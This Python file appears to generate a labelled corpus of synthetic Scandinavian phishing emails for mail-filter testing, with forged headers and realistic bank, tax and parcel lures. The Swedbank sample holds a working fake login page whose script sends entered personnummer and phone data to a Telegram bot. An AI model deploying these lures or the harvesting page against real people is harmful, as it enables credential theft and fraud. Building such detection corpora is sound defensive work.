<p><a href="{url}">{button}</a></p>
<p style="color:#888;font-size:9pt">{footer}</p>
</div>
"""


def alt(seed: str, style: str, txt: str, html: str, tenc: str = "quoted-printable", henc: str = "quoted-printable") -> Multi:
    return Multi("alternative", boundary(seed, style), [text(txt, "plain", tenc), text(html, "html", henc)])


def gmail_div(paras: list[str], sig: str | None = None, quote: str | None = None) -> str:
    body = "".join(f"<div>{p}</div>" if p else "<div><br></div>" for p in paras)
    if sig:
        body += f'<div><br></div><span class="gmail_signature_prefix">-- </span><br><div dir="ltr" class="gmail_signature">{sig}</div>'
    out = f'<div dir="ltr">{body}</div>'
    if quote:
        out += quote
    return out + "\n"


def pdf_qr(lines: list[str], url: str, title: str) -> bytes:
    import segno
    qr = segno.make(url, error="m", micro=False)
    scale, border = 5, 4
    mat = [list(r) for r in qr.matrix]
    size = (len(mat) + 2 * border) * scale
    raw = bytearray()
    for y in range(size):
        my = y // scale - border
        raw.append(0)
        for x in range(size):
            mx = x // scale - border
            dark = 0 <= my < len(mat) and 0 <= mx < len(mat) and mat[my][mx]
            raw.append(0 if dark else 255)
    # PDF /FlateDecode image without predictor: strip the PNG-style filter bytes
    pix = bytearray()
    for y in range(size):
        pix += raw[y * (size + 1) + 1:(y + 1) * (size + 1)]
    img = zlib.compress(bytes(pix), 9)
    content = ["BT", "/F1 11 Tf", "15 TL", "56 790 Td"]
    for ln in lines:
        esc = ln.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
        content.append(f"({esc}) Tj T*")
    content.append("ET")
    content.append(f"q 180 0 0 180 207 300 cm /Im1 Do Q")
    stream = "\n".join(content).encode("latin-1")
    objs = files.image_page(stream, img, size, size, "FlateDecode")
    objs.append(f"<< /Title ({title}) /Producer (iLovePDF) /Creator (Microsoft Word) >>".encode("latin-1"))
    return files.pdf_file(objs, len(objs))


def pdf_doc(lines: list[str], title: str, producer: str = "Microsoft: Print To PDF", link: tuple | None = None) -> bytes:
    data = files.pdf(lines, link=link, title=title)
    return data.replace(b"/Producer (Microsoft: Print To PDF)", f"/Producer ({producer})".encode("latin-1"))


def zipcrypto(members: list[tuple[str, bytes]], password: bytes, seed: str) -> bytes:
    """A zip whose members use traditional PKWARE encryption (what 'password-protected' kits send)."""
    def crc_upd(c: int, b: int) -> int:
        return zlib.crc32(bytes([b]), c ^ 0xFFFFFFFF) ^ 0xFFFFFFFF

    out = bytearray()
    central = bytearray()
    dostime, dosdate = (9 << 11) | (30 << 5), ((2024 - 1980) << 9) | (11 << 5) | 26
    for name, data in members:
        k = [0x12345678, 0x23456789, 0x34567890]

        def upd(b):
            k[0] = crc_upd(k[0], b)
            k[1] = ((k[1] + (k[0] & 0xFF)) * 134775813 + 1) & 0xFFFFFFFF
            k[2] = crc_upd(k[2], k[1] >> 24)

        def ks():
            tmp = (k[2] | 2) & 0xFFFF
            return ((tmp * (tmp ^ 1)) >> 8) & 0xFF

        for b in password:
            upd(b)
        crc = zlib.crc32(data) & 0xFFFFFFFF
        co = zlib.compressobj(9, zlib.DEFLATED, -15)
        comp = co.compress(data) + co.flush()
        header = bytearray(hashlib.sha256((seed + name).encode()).digest()[:11]) + bytes([crc >> 24])
        enc_ = bytearray()
        for b in bytes(header) + comp:
            c = b ^ ks()
            upd(b)
            enc_.append(c)
        fn = name.encode()
        off = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 1, 8, dostime, dosdate, crc, len(enc_), len(data), len(fn), 0) + fn + enc_
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 1, 8, dostime, dosdate, crc, len(enc_), len(data),
                               len(fn), 0, 0, 0, 0, 0x20, off) + fn
    cd_off = len(out)
    out += central
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central), cd_off, 0)
    return bytes(out)


# ============================================================================= the samples

GM = ("gmail",)
OUTL = ("ms", "eurprd04")
TELIA = ("pf", "mx1.telia.com", "mailstore3.telia.com", "Europe/Stockholm", "Postfix")
LOOPIA = ("pf", "mx1.loopia.se", "mailstore7.loopia.se", "Europe/Stockholm", "Postfix")
ONLINE_NO = ("pf", "mx.online.no", "lmtp2.online.no", "Europe/Oslo", "Postfix")
DOMENESHOP = ("pf", "mx.domeneshop.no", "imap02.domeneshop.no", "Europe/Oslo", "Postfix")
MAILDK = ("pf", "mx1.mail.dk", "store2.mail.dk", "Europe/Copenhagen", "Postfix")
ONECOM = ("pf", "mx1.pub.mailpod12-cph3.one.com", "mailstorage3.pub.mailpod12-cph3.one.com", "Europe/Copenhagen", "Haraka")
ELISA = ("pf", "mx.elisa.fi", "mbox4.elisa.fi", "Europe/Helsinki", "Postfix")
WP = ("pf", "mx.wp.pl", "mbox12.wp.pl", "Europe/Warsaw", "WP.PL")
O2 = ("pf", "mx.o2.pl", "mbox3.o2.pl", "Europe/Warsaw", "WP.PL")
ONET = ("pf", "mx.poczta.onet.pl", "store11.poczta.onet.pl", "Europe/Warsaw", "Postfix")
INTERIA = ("pf", "mx.poczta.interia.pl", "mbox-m5.poczta.interia.pl", "Europe/Warsaw", "Postfix")
HOMEPL = ("pf", "mx.home.pl", "lmtp4.home.pl", "Europe/Warsaw", "Postfix")
NAZWA = ("pf", "mx1.nazwa.pl", "store03.nazwa.pl", "Europe/Warsaw", "Postfix")
SEZNAM = ("pf", "mx1.seznam.cz", "mailstore12.ng.seznam.cz", "Europe/Prague", "Postfix")
CENTRUM = ("pf", "mx.centrum.cz", "mbox2.centrum.cz", "Europe/Prague", "Postfix")
FREEMAIL = ("pf", "mx.freemail.hu", "store5.freemail.hu", "Europe/Budapest", "Postfix")
CITRO = ("pf", "mx.citromail.hu", "mbox1.citromail.hu", "Europe/Budapest", "Postfix")
RACKHOST = ("pf", "mx.rackhost.hu", "mail-store2.rackhost.hu", "Europe/Budapest", "Postfix")
HOSTICO = ("pf", "mx1.hostico.ro", "store4.hostico.ro", "Europe/Bucharest", "Postfix")
ETISALAT = ("pf", "mx.emirates.net.ae", "mstore3.emirates.net.ae", "Asia/Dubai", "Postfix")

PHPM = "PHPMailer 6.8.1 (https://github.com/PHPMailer/PHPMailer)"
GDKIM = ("gmail.com", "20230601")


def kit(slug, desc, *, rx, rcpt, t, frm, subject, html, txt, ip, helo, rdns=None, mailfrom=None, spf="pass",
        dkim="own", dmarc="none", p="NONE", mailer=PHPM, bstyle="php", hops=(), extra=(), attach=(), subj_mode="B",
        reply_to=None, cat="phishing", mid_host=None, spam=None, scl=None, html_only=False, to=None, kind="phish"):
    name = f"b18-{kind}-{slug}"
    fdom = re.search(r"@([\w.-]+)>?$", frm).group(1)
    if dkim == "own":
        dkim = (fdom, "default")
    mailfrom = mailfrom or re.search(r"([\w.+-]+@[\w.-]+)>?$", frm).group(1)
    head = ["Date: %DATE%", f"To: {to or rcpt}", f"From: {frm}"]
    if reply_to:
        head.append(f"Reply-To: {reply_to}")
    head += [f"Subject: {enc(subject, subj_mode)}", f"Message-ID: {mid_php(name, mid_host or fdom)}"]
    if mailer:
        head.append(f"X-Mailer: {mailer}")
    head += list(extra) + ["MIME-Version: 1.0"]
    if html_only:
        body = text(html, "html")
    elif txt is None:
        body = text(html, "html")
    else:
        body = alt(name, bstyle, txt, html)
    if attach:
        body = Multi("mixed", boundary(name + "mx", bstyle), [body, *attach])
    add(cat, kind, slug, desc, rx=rx, rcpt=rcpt, t=t, ip=ip, helo=helo, rdns=rdns, mailfrom=mailfrom, spf=spf,
        dkim=dkim, dmarc=dmarc, p=p, hops=hops, head=head, body=body, spam=spam, scl=scl)


def gmail_send(cat, kind, slug, desc, *, rx, rcpt, t, frm, to, subject, body, refs=None, cc=None, spam=None, scl=None):
    name = f"b18-{kind}-{slug}"
    ip, host = google_ip(name)
    mf = re.search(r"([\w.+-]+@[\w.-]+)>?$", frm).group(1)
    add(cat, kind, slug, desc, rx=rx, rcpt=rcpt, t=t, ip=ip, helo=host, mailfrom=mf, spf="pass", dkim=GDKIM,
        dmarc="pass", p="NONE", head=gmail_head(name, frm, to, subject, refs, cc, t), body=body, hlist=GMAIL_HL,
        spam=spam, scl=scl)


def gtext(seed: str, txt: str, paras_html: str | None = None) -> Multi:
    if paras_html is None:
        paras_html = gmail_div([htmlmod.escape(x) if x else "" for x in txt.rstrip("\n").split("\n")])
    return Multi("alternative", boundary(seed, "gmail"), [text(txt), text(paras_html, "html")])


def o365_send(cat, kind, slug, desc, *, rx, rcpt, t, frm, to, subject, lang, txt, html=None, region="eurprd05",
              cc=None, refs=None, attach=(), extra=(), dmarc="pass", p="NONE", spam=None, scl=None, dkim_dom=None):
    name = f"b18-{kind}-{slug}"
    tt = t.astimezone(ZoneInfo("UTC"))
    hops, box, helo, ip = hops_o365_out(name, region, tt)
    fdom = re.search(r"@([\w.-]+)>?$", frm).group(1)
    head = outlook_head(name, box, region, frm, to, subject, lang, cc=cc, refs=refs, attach=bool(attach))
    head = head[:-1] + list(extra) + [head[-1]]
    if html is None:
        html = outlook_html(txt)
    body = Multi("alternative", boundary(name, "outlook"), [text(txt), text(html, "html")])
    if attach:
        body = Multi("mixed", boundary(name, "outlook_mix"), [body, *attach])
    add(cat, kind, slug, desc, rx=rx, rcpt=rcpt, t=t, ip=ip, helo=helo,
        rdns=f"mail-{helo.split('-')[1].lower()}{helo.split('-')[0].lower()}on{num(name, 2000, 2199)}.outbound.protection.outlook.com",
        mailfrom=re.search(r"([\w.+-]+@[\w.-]+)>?$", frm).group(1), spf="pass", dkim=(dkim_dom or fdom, "selector1"),
        dmarc=dmarc, p=p, hops=hops, head=head, body=body, hlist=MS_HL, spam=spam, scl=scl)


def outlook_html(txt: str) -> str:
    blocks = txt.rstrip("\n").split("\n")
    out = []
    for line in blocks:
        if line.startswith("Fra: ") or line.startswith("From: ") or line.startswith("Från: "):
            out.append('<div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm"><p class="MsoNormal"><b>'
                       + htmlmod.escape(line.split(": ", 1)[0]) + ":</b> " + htmlmod.escape(line.split(": ", 1)[1]) + "</p></div>")
        elif line:
            out.append(f'<p class="MsoNormal">{htmlmod.escape(line)}<o:p></o:p></p>')
        else:
            out.append('<p class="MsoNormal"><o:p>&nbsp;</o:p></p>')
    return ('<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
            'xmlns:w="urn:schemas-microsoft-com:office:word" xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" '
            'xmlns="http://www.w3.org/TR/REC-html40">\n<head>\n<meta http-equiv="Content-Type" content="text/html; charset=utf-8">\n'
            '<meta name="Generator" content="Microsoft Word 15 (filtered medium)">\n<style><!--\n'
            '@font-face {font-family:"Cambria Math";}\n@font-face {font-family:Calibri;}\n'
            'p.MsoNormal, li.MsoNormal, div.MsoNormal {margin:0cm;font-size:11.0pt;font-family:"Calibri",sans-serif;}\n'
            'a:link, span.MsoHyperlink {color:#0563C1;text-decoration:underline;}\n'
            '@page WordSection1 {size:612.0pt 792.0pt;margin:70.85pt 70.85pt 70.85pt 70.85pt;}\n'
            'div.WordSection1 {page:WordSection1;}\n--></style>\n</head>\n<body lang="EN-US" link="#0563C1" vlink="#954F72" style="word-wrap:break-word">\n'
            '<div class="WordSection1">\n' + "\n".join(out) + "\n</div>\n</body>\n</html>\n")


# ============================================================================= attacks: Sweden

def attacks_se():
    n = "sv-handelsbanken-bankid-renewal"
    url = f"https://handelsbanken-kund.se/bankid/fornya?sid={hx(n, 20)}"
    title = "Förnya ditt Mobilt BankID"
    paras = ["Hej,",
             "Ditt Mobilt BankID utfärdat av Handelsbanken löper ut den <b>19 april 2024</b>. För att du ska kunna fortsätta logga in i appen och internetbanken och godkänna betalningar behöver du förnya det.",
             "Förnyelsen tar cirka två minuter. Ha din telefon och ditt nuvarande BankID till hands.",
             "Om förnyelsen inte genomförs i tid spärras ditt BankID automatiskt och du behöver besöka ett kontor för att få ett nytt."]
    foot = "Med vänliga hälsningar<br>Handelsbanken Kundservice<br>Svenska Handelsbanken AB (publ), 106 70 Stockholm"
    kit(n, "Lookalike domain handelsbanken-kund.se (own SPF/DKIM pass, no DMARC) warns that Mobilt BankID expires and links to a renewal page that harvests BankID login.",
        rx=TELIA, rcpt="lars.holmqvist@telia.com", t=T("2024-04-16 07:42:10", "Europe/Stockholm"),
        frm=addr("Handelsbanken", "kundservice@handelsbanken-kund.se"),
        subject="Ditt Mobilt BankID behöver förnyas – åtgärd krävs senast 19 april",
        html=kit_html("sv", "Handelsbanken", "#005aa0", title, paras, "Förnya BankID", url, foot, 0,
                      logo="https://www.handelsbanken.se/tron/public/img/logo/handelsbanken-logo.png"),
        txt=plain(title, paras, "Förnya BankID", url, [foot]),
        ip="45.89.127.34", helo="mail.handelsbanken-kund.se", rdns="srv34.ifra-hosting.net")

    n = "sv-skatteverket-refund-spoof"
    url = f"https://skv-aterbetalning.info/ansok/?ref=SE{num(n, 100000, 999999)}"
    paras = ["Bästa skattebetalare,",
             "Efter den årliga beräkningen av din inkomstdeklaration för inkomståret 2023 har vi fastställt att du har rätt till en skatteåterbäring på <b>4 872,00 SEK</b>.",
             "För att beloppet ska kunna betalas ut till ditt konto måste du bekräfta dina uppgifter med e-legitimation inom 5 arbetsdagar. Efter detta datum återgår beloppet till Skatteverket."]
    foot = "Skatteverket, 171 94 Solna. Detta är ett automatiskt meddelande, svara inte på detta e-postmeddelande."
    t = T("2024-06-03 08:14:12", "UTC")
    name = "b18-phish-" + n
    head = [f"To: emma.sjoberg84@gmail.com", f"Subject: {enc('Meddelande om skatteåterbäring 2023 – 4 872 kr', 'Q')}",
            "X-PHP-Originating-Script: 33:mailer.php", "MIME-Version: 1.0",
            "From: Skatteverket <no-reply@skatteverket.se>",
            f"Message-Id: <{t.strftime('%Y%m%d%H%M%S')}.{hx(n, 10).upper()}@vps-2144.fastnet-host.net>", "Date: %DATE%"]
    add("phishing", "phish", n, "Skatteverket refund notice sent with PHP mail() from a rented VPS spoofing skatteverket.se (SPF none for the envelope, no DKIM, DMARC fail) linking to a fake refund form.",
        rx=GM, rcpt="emma.sjoberg84@gmail.com", t=t, ip="103.157.96.18", helo="vps-2144.fastnet-host.net",
        mailfrom="www-data@vps-2144.fastnet-host.net", spf="none", dmarc="fail", p="QUARANTINE",
        hops=[hop_local("vps-2144.fastnet-host.net", t, "UTC")], head=head,
        body=text(kit_html("sv", "Skatteverket", "#2b5b84", "Meddelande om skatteåterbäring", paras, "Begär återbetalning", url, foot, 1), "html"))

    n = "sv-postnord-customs-fee"
    url = "https://rb.gy/4kqz7m"
    title = "Ditt paket väntar på betalning"
    paras = ["Hej,",
             "Ditt paket med spårningsnummer <b>UA447192853SE</b> har anlänt till vår terminal i Rosersberg men kan inte levereras eftersom en tull- och hanteringsavgift på <b>29,00 kr</b> inte har betalats.",
             "Betala avgiften inom 48 timmar för att boka en ny leverans. Obetalda försändelser returneras till avsändaren."]
    foot = "© PostNord Sverige AB 2023 | Detta e-postmeddelande skickades automatiskt."
    kit(n, "PostNord customs-fee kit from the throwaway domain pn-leverans.top (its own SPF/DKIM pass) with the PostNord logo hotlinked and a URL-shortener link to a card form.",
        rx=OUTL, rcpt="anki_berg@hotmail.com", t=T("2023-11-21 19:03:44", "UTC"),
        frm=addr("PostNord", "notice@pn-leverans.top"),
        subject="Ditt paket kan inte levereras – obetald tullavgift (SE-4471928)",
        html=kit_html("sv", "PostNord", "#00a0d6", title, paras, "Betala 29,00 kr", url, foot, 0,
                      logo="https://www.postnord.se/siteassets/logos/postnord-logo.png"),
        txt=plain(title, paras, "Betala 29,00 kr", url, [foot]), mailer=None, bstyle="other",
        ip="194.169.175.41", helo="mail.pn-leverans.top", dkim=("pn-leverans.top", "mail"))

    n = "sv-blocket-swish-buyer"
    txt = ("Hej Pernilla!\n\nJag är intresserad av din soffa (Söderhamn 3-sits) och vill köpa den för 2 800 kr som i annonsen. "
           "Jag bor i Umeå så jag kan tyvärr inte hämta själv, men jag har redan betalat via Blocket Köpskydd och beställt frakt med PostNord som hämtar hos dig.\n\n"
           "För att pengarna ska sättas in på ditt konto behöver du bara bekräfta mottagandet med Swish här:\n"
           "https://blocket.kopskydd-swish.se/mottag/38174\n\n"
           "Skriv gärna när du har gjort det så bokar jag upphämtningen. Tack!\n\nMvh Anna\n")
    html = gmail_div(["Hej Pernilla!", "", "Jag är intresserad av din soffa (Söderhamn 3-sits) och vill köpa den för 2 800 kr som i annonsen. Jag bor i Umeå så jag kan tyvärr inte hämta själv, men jag har redan betalat via Blocket Köpskydd och beställt frakt med PostNord som hämtar hos dig.", "",
                      "För att pengarna ska sättas in på ditt konto behöver du bara bekräfta mottagandet med Swish här:",
                      '<a href="https://blocket.kopskydd-swish.se/mottag/38174">https://blocket.kopskydd-swish.se/mottag/38174</a>', "",
                      "Skriv gärna när du har gjort det så bokar jag upphämtningen. Tack!", "", "Mvh Anna"])
    gmail_send("phishing", "phish", n, "Blocket buyer-has-paid scam from a fresh Gmail account (all authentication passes) asking the seller to 'receive' the Swish payment on a fake Köpskydd page.",
               rx=TELIA, rcpt="pernilla.lindgren@telia.com", t=T("2024-08-09 14:22:51", "Europe/Stockholm"),
               frm="Anna Karlsson <anna.karlsson.9712@gmail.com>", to="pernilla.lindgren@telia.com",
               subject="Ang. din annons: Soffa IKEA Söderhamn", body=gtext(n, txt, html))

    n = "sv-swedbank-html-attachment"
    tg = base64.b64encode(b"https://api.telegram.org/bot6841127390:AAF3kZq9wT1xVbN0pLr5mYc2Hd8sJe4uGiQ/sendMessage?chat_id=-1001947712035&text=").decode()
    page = f"""<!DOCTYPE html>
<html lang="sv"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1">
<title>Swedbank – Logga in</title>
<link rel="icon" href="https://www.swedbank.se/favicon.ico">
<style>body{{font-family:Arial,sans-serif;background:#fdf6ee;margin:0}}.box{{max-width:380px;margin:60px auto;background:#fff;padding:30px;border-radius:8px;box-shadow:0 2px 8px rgba(0,0,0,.15)}}
input{{width:100%;padding:12px;margin:8px 0 16px;border:1px solid #ccc;border-radius:4px;box-sizing:border-box}}button{{width:100%;padding:13px;background:#ee7023;color:#fff;border:0;border-radius:4px;font-size:16px}}</style></head>
<body><div class="box"><img src="https://www.swedbank.se/content/dam/swedbank/logo.svg" alt="Swedbank" height="34">
<h2>Säkerhetskontroll – Företag</h2><p>Logga in med Mobilt BankID för att slutföra kontrollen av era kunduppgifter.</p>
<form id="f"><label>Personnummer</label><input name="pnr" placeholder="ÅÅÅÅMMDD-XXXX" required>
<label>Organisationsnummer</label><input name="org" required><label>Mobilnummer</label><input name="tel" required>
<button type="submit">Fortsätt med BankID</button></form></div>
<script>
var _u=atob("{tg}");
document.getElementById("f").onsubmit=function(e){{e.preventDefault();var d=new FormData(this),m="SWB|";d.forEach(function(v,k){{m+=k+"="+v+"|"}});
fetch(_u+encodeURIComponent(m+navigator.userAgent)).then(function(){{document.body.innerHTML="<div class=box><h3>Väntar på BankID...</h3><p>Öppna BankID-appen på din telefon.</p></div>";setTimeout(function(){{location.href="https://www.swedbank.se/"}},9000)}})}};
</script></body></html>
"""
    html = ("<html><body><p>Hej,</p><p>Som en del av vårt arbete mot penningtvätt behöver vi uppdatera kunduppgifterna för ert företagskonto. "
            "Öppna det bifogade dokumentet och logga in med Mobilt BankID för att slutföra kontrollen.</p>"
            "<p>Om kontrollen inte slutförs inom 3 dagar kan vissa tjänster för kontot begränsas.</p><p>Vänliga hälsningar<br>Swedbank Företagsservice</p></body></html>")
    kit(n, "Swedbank 'know your customer' check for a small paint shop: the link-free mail carries an HTML attachment whose BankID/personnummer form posts to a Telegram bot.",
        rx=LOOPIA, rcpt="info@nymansfarg.se", t=T("2023-09-12 10:11:05", "Europe/Stockholm"),
        frm=addr("Swedbank Företagsservice", "foretag@swedbank-sakerhet.com"),
        subject="Säkerhetskontroll av ert företagskonto – bifogat dokument", html=html, txt=plain("", [strip(x) for x in re.findall(r"<p>(.*?)</p>", html)]),
        attach=[attachment("text/html", "Swedbank_Sakerhetskontroll.htm", page.encode())],
        ip="91.92.243.17", helo="mail.swedbank-sakerhet.com")


# ============================================================================= attacks: Norway

def attacks_no():
    n = "no-skatteetaten-compromised-br"
    t = T("2024-06-27 03:14:22", "America/Sao_Paulo")
    url = f"https://skatt-oppgjor-2023.web.app/?ref=NO{num(n, 10000000, 99999999)}"
    txt = ("Hei,\n\nSkatteoppgjøret for inntektsåret 2023 er nå klart. Beregningen viser at du har betalt for mye skatt og har krav på tilbakebetaling på kr 6 314.\n\n"
           "For å motta beløpet må kontonummeret ditt bekreftes i Skatteetatens portal innen 3 dager. Logg inn med BankID:\n"
           f"{url}\n\nMed vennlig hilsen\nSkatteetaten\n")
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8" /></head><body style=\'font-size: 10pt; font-family: Verdana,Geneva,sans-serif\'>\n'
            "<p>Hei,</p>\n<p>Skatteoppgjøret for inntektsåret 2023 er nå klart. Beregningen viser at du har betalt for mye skatt og har krav på tilbakebetaling på <strong>kr 6 314</strong>.</p>\n"
            f"<p>For å motta beløpet må kontonummeret ditt bekreftes i Skatteetatens portal innen 3 dager. Logg inn med BankID:<br /><a href=\"{url}\">{url}</a></p>\n"
            "<p>Med vennlig hilsen<br />Skatteetaten</p>\n</body></html>\n")
    name = "b18-phish-" + n
    head = ["MIME-Version: 1.0", "Date: %DATE%", "From: Skatteetaten <contato@vidracariasantos.com.br>",
            "To: undisclosed-recipients:;", f"Subject: {enc('Skatteoppgjøret 2023 er klart – du har penger til gode')}",
            f"Message-ID: <{hx(n, 32)}@vidracariasantos.com.br>", "X-Sender: contato@vidracariasantos.com.br",
            "User-Agent: Roundcube Webmail/1.6.6"]
    hop = (f"Received: from localhost ([127.0.0.1]:51288 helo=br42.hostgator.com.br)\n\tby br42.hostgator.com.br with esmtpa (Exim 4.96.2)\n"
           f"\t(envelope-from <contato@vidracariasantos.com.br>)\n\tid 1sMk{alnum(n, 2)}-00{alnum(n + 'z', 4)}-1C;\n\t{fd(t)}")
    add("phishing", "phish", n, "Skatteetaten refund lure sent in bulk (Bcc) from a compromised Brazilian business mailbox through Roundcube: the sender's own SPF/DKIM pass, link to a Firebase web.app page.",
        rx=ONLINE_NO, rcpt="kjersti.aas@online.no", t=t, ip="162.241.2.114", helo="br42.hostgator.com.br",
        mailfrom="contato@vidracariasantos.com.br", spf="pass", dkim=("vidracariasantos.com.br", "default"), dmarc="none",
        hops=[hop], head=head, body=Multi("alternative", boundary(name, "other"), [text(txt), text(html, "html")]), spam=5.9)

    n = "no-posten-bring-address"
    url = f"https://posten-sporing.online/no/pakke?sid={hx(n, 12)}"
    title = "Pakken din venter"
    paras = ["Hei,", "Vi har forsøkt å levere pakken din, men leveringsadressen er ufullstendig. Pakken holdes nå på vår terminal på Alnabru.",
             "Vennligst bekreft adressen din og betal fraktgebyret på <b>NOK 24,00</b> for å planlegge en ny levering. Pakker som ikke hentes innen 3 virkedager blir returnert til avsender."]
    foot = "Posten Norge AS, Postboks 1500 Sentrum, 0001 Oslo"
    kit(n, "Posten address-confirmation kit from the registered lookalike posten-sporing.online (own SPF/DKIM) asking a NOK 24 redelivery fee.",
        rx=GM, rcpt="tor.eriksen@gmail.com", t=T("2025-01-14 08:12:40", "UTC"), frm=addr("Posten", "noreply@posten-sporing.online"),
        subject="Posten: Pakken din venter – bekreft leveringsadresse", html=kit_html("nb", "Posten", "#e32d22", title, paras, "Bekreft levering", url, foot, 1),
        txt=plain(title, paras, "Bekreft levering", url, [foot]), bstyle="other", mailer=None, ip="193.233.133.12", helo="mail.posten-sporing.online")

    n = "no-finn-fiksferdig-buyer"
    t = T("2024-10-02 21:48:10", "Europe/Oslo")
    txt = ("Hei!\n\nJeg har kjøpt sykkelen din (Trek Marlin 7) via FINN og betalt med Fiks ferdig / Vipps. Beløpet 7 500 kr er reservert til deg.\n\n"
           "For å få pengene utbetalt må du bekrefte salget og legge inn kortet du vil ha utbetalingen til her:\n"
           "https://finn-fiksferdig.no-utbetaling.com/sak/55120937\n\nPosten henter sykkelen hos deg i morgen. Gi beskjed når det er gjort 🙂\n\nHilsen Marius\n")
    html = ('<html><head>\n<meta http-equiv="Content-Type" content="text/html; charset=utf-8">\n<style type="text/css" style="display:none;"> P {margin-top:0;margin-bottom:0;} </style>\n</head>\n<body dir="ltr">\n'
            + "".join(f'<div class="elementToProof" style="font-family: Aptos, Aptos_EmbeddedFont, Aptos_MSFontService, Calibri, Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);">{htmlmod.escape(x) if x else "<br>"}</div>\n'
                      for x in txt.rstrip().split("\n")).replace("https://finn-fiksferdig.no-utbetaling.com/sak/55120937", '<a href="https://finn-fiksferdig.no-utbetaling.com/sak/55120937">https://finn-fiksferdig.no-utbetaling.com/sak/55120937</a>')
            + "</body>\n</html>\n")
    o365_send("phishing", "phish", n, "FINN Fiks ferdig buyer scam from an Outlook.com account (passes everything) pushing the seller to a fake payout page that asks for card details.",
              rx=OUTL, rcpt="sindre.moe@hotmail.com", t=t, frm="Marius Haugen <marius.haugen1988@outlook.com>", to="sindre.moe@hotmail.com",
              subject="Trek Marlin 7 på FINN – betalt", lang="nb-NO", txt=txt, html=html, region="eurprd03", dkim_dom="outlook.com")

    n = "no-autopass-unpaid-toll"
    t = T("2025-03-05 11:02:17", "UTC")
    name = "b18-phish-" + n
    url = "https://autopass-betaling.com/faktura/72019448"
    title = "Ubetalt bompassering"
    paras = ["Hei,", "Vi har registrert en passering i bomstasjonen <b>Rv. 4 Nittedal</b> den 11.02.2025 med et kjøretøy registrert på deg. Fakturaen på kr 289,00 er ikke betalt innen forfallsdato.",
             "For å unngå inkassovarsel og tilleggsavgift på kr 300 må beløpet betales innen 48 timer."]
    foot = "AutoPASS – Fjellinjen AS. Denne e-posten kan ikke besvares."
    mid = mid_ses(name)
    head = [f"From: {addr('AutoPASS', 'faktura@autopass-betaling.com')}", "To: hilde@hansen-regnskap.no",
            f"Subject: {enc('Ubetalt bompassering – 2. purring (faktura 72019448)')}", f"Message-ID: {mid}", "Date: %DATE%", "MIME-Version: 1.0",
            f"Feedback-ID: ::1.eu-west-1.{alnum(name, 43)}=:AmazonSES", "X-SES-Outgoing: 2025.03.05-54.240.4.12"]
    add("phishing", "phish", n, "AutoPASS toll reminder sent through Amazon SES from a registered lookalike (SES SPF and the domain's DKIM pass) linking to a card-payment page.",
        rx=DOMENESHOP, rcpt="hilde@hansen-regnskap.no", t=t, ip="54.240.4.12", helo="a4-12.smtp-out.eu-west-1.amazonses.com",
        mailfrom=mid.strip("<>"), spf="pass", dkim=("autopass-betaling.com", alnum(name + "sel", 32).lower()), dmarc="none", head=head,
        body=alt(name, "other", plain(title, paras, "Betal faktura", url, [foot]), esp_html("nb", "AutoPASS", "#003c71", "https://www.autopass.no/Static/gfx/autopass-logo.png", title, paras, "Betal faktura", url, [foot])))

    n = "no-sharepoint-share-compromised"
    t = T("2024-09-17 13:05:33", "Europe/Oslo")
    name = "b18-phish-" + n
    link = f"https://solheimregnskap-my.sharepoint.com/:b:/g/personal/ingrid_solheimregnskap_no/E{alnum(name + 'sp', 42)}?e=4%3a{alnum(name + 'e', 6)}&at=9"
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body><div style="font-family:'Segoe UI',sans-serif;max-width:520px;margin:0 auto;padding:24px">
<table role="presentation" cellpadding="0" cellspacing="0" style="width:100%"><tr><td style="font-size:21px;color:#323130;padding-bottom:16px">Ingrid Solheim har delt en fil med deg</td></tr>
<tr><td style="font-size:14px;color:#323130;padding-bottom:20px;border-left:3px solid #0078d4;padding-left:12px">Hei, vedlagt faktura for regnskapstjenester september. Gi beskjed om noe er uklart. Mvh Ingrid</td></tr>
<tr><td style="border:1px solid #edebe9;padding:14px"><img src="https://res-1.cdn.office.net/files/fabric-cdn-prod_20240129.001/assets/item-types/48/pdf.png" width="32" height="32" alt="" style="vertical-align:middle"> <span style="font-size:16px;font-weight:600;color:#323130">Faktura 2024-0917.pdf</span></td></tr>
<tr><td style="padding:22px 0"><a href="{link}" style="background:#0078d4;color:#ffffff;padding:10px 22px;text-decoration:none;font-weight:600;border-radius:2px">Åpne</a></td></tr>
<tr><td style="font-size:12px;color:#605e5c;padding-top:18px"><img src="https://res-1.cdn.office.net/files/fabric-cdn-prod_20240129.001/assets/brand-icons/product/png/onedrive_32x1.png" width="24" alt="OneDrive"><br>
Denne e-postmeldingen er generert av Microsoft på vegne av Solheim Regnskap AS. Du mottar den fordi noen har delt en fil med deg.<br>
<a href="https://go.microsoft.com/fwlink/?LinkId=521839" style="color:#605e5c">Personvernerklæring</a></td></tr></table></div></body></html>
"""
    txt = ("Ingrid Solheim har delt en fil med deg\n\nHei, vedlagt faktura for regnskapstjenester september. Gi beskjed om noe er uklart. Mvh Ingrid\n\n"
           f"Faktura 2024-0917.pdf\n\nÅpne: {link}\n\nDenne e-postmeldingen er generert av Microsoft på vegne av Solheim Regnskap AS.\n"
           "Personvernerklæring: https://go.microsoft.com/fwlink/?LinkId=521839\n")
    tt = t.astimezone(ZoneInfo("UTC"))
    hops, box, helo, ip = hops_o365_out(name, "eurprd02", tt)
    head = [f"From: {addr('Ingrid Solheim', 'no-reply@sharepointonline.com')}", "To: post@fjordbygg.no",
            f"Reply-To: {addr('Ingrid Solheim', 'ingrid.solheim@solheimregnskap.no')}",
            f"Subject: {enc('Ingrid Solheim har delt «Faktura 2024-0917» med deg')}", "Date: %DATE%",
            f"Message-ID: <{uid(name)}@{box}.eurprd02.prod.outlook.com>", "MIME-Version: 1.0",
            "X-MS-Exchange-Organization-SharingNotification: true"]
